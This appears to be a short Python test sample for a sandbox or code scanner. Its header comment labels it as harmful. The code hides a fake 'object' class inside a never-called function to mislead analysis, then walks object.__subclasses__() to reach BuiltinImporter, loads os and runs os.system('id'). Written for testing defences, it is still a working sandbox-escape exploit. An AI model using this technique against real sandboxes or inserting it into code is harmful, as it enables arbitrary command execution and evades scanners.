# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: class named `object` exists only inside a never-called function; module-level `object` is the builtin
def _types():
    class object:
        pass
    return object


for c in object.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
